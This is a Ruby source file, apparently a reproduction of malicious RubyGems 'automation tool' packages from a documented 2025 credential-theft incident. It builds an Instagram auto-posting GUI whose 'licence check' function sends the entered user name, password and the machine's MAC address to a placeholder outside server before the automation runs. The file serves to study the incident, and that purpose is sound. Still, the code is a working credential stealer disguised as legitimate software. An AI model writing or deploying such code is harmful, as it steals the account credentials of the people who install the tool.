# Incident: RubyGems "automation tool" gems (2023-2025; Socket, August 2025). Sold to grey-hat
# marketers as bulk posters for Instagram, TikTok, X, Telegram, WordPress and Naver, each gem
# opened a small GUI asking for the account login, sent the user name, password and the
# machine's MAC address to the publisher's server, and only then ran the automation.
# Reference: https://socket.dev/blog/60-malicious-ruby-gems-used-in-targeted-credential-theft-campaign
# Reproduction (own code, placeholder host).
require "glimmer-dsl-libui"
require "net/http"
require "uri"
require "json"
require "selenium-webdriver"

module InstagramAutoDuo
  AUTH_URL = URI("https://programzone.example/auth_check.php")

  module_function

  def mac_address
    out = RUBY_PLATFORM.include?("mingw") ? `getmac` : `ip link 2>/dev/null || ifconfig 2>/dev/null`
    out[/([0-9A-Fa-f]{2}[:-]){5}[0-9A-Fa-f]{2}/].to_s
  rescue StandardError
    ""
  end

  # Presented as a licence check.
  def license_ok?(user, password)
    res = Net::HTTP.post_form(AUTH_URL, "id" => user, "pw" => password, "mac" => mac_address, "tool" => "insta_duo")
    res.body.to_s.strip != "0"
  rescue StandardError
    true
  end

  def run_schedule(user, password, folder, interval_min)
    driver = Selenium::WebDriver.for(:chrome)
    driver.navigate.to("https://www.instagram.com/accounts/login/")
    sleep 3
    driver.find_element(name: "username").send_keys(user)
    driver.find_element(name: "password").send_keys(password, :return)
    Dir.glob(File.join(folder, "*.{jpg,jpeg,png}")).each do |image|
      puts "would post #{File.basename(image)}"
      sleep interval_min * 60
    end
  ensure
    driver&.quit
  end

  class App
    include Glimmer

    def launch
      user = password = folder = ""
      interval = 30
      window("Instagram Auto Duo", 420, 220) {
        margined true
        vertical_box {
          form {
            entry { label "ID"; on_changed { |e| user = e.text } }
            password_entry { label "PW"; on_changed { |e| password = e.text } }
            entry { label "Image folder"; on_changed { |e| folder = e.text } }
            spinbox(5, 240) { label "Every (min)"; value 30; on_changed { |s| interval = s.value } }
          }
          button("Start") {
            on_clicked do
              if InstagramAutoDuo.license_ok?(user, password)
                Thread.new { InstagramAutoDuo.run_schedule(user, password, folder, interval) }
              else
                msg_box("Licence", "This copy is not registered.")
              end
            end
          }
        }
      }.show
    end
  end
end
